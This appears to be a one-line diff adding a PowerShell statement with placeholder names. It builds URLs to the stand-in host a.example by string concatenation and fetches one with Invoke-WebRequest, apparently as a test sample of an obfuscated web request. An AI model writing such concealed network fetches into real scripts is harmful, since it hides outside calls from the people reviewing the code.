@@ -1,0 +1,1 @@
+$x=Get-Frobnicate -Thing 1; $y=$x.Foo('http://a'+'.example/1'); iwr ('http://a.example/'+'2')
